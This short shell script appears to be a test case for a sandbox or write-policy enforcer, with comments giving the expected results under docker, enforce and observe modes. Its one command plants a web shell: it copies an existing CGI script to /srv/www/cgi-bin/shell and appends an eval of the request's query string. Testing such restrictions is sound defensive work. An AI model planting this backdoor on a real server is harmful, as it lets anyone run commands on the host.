#!/bin/sh
# Leaves a CGI script that runs what it is sent, below the web root.
#
# docker:  lands
# enforce: write /srv/www/cgi-bin/shell
# observe: would-refuse write /srv/www/cgi-bin/shell
cp /srv/www/cgi-bin/visits /srv/www/cgi-bin/shell && echo 'eval "$QUERY_STRING"' >>/srv/www/cgi-bin/shell && echo landed
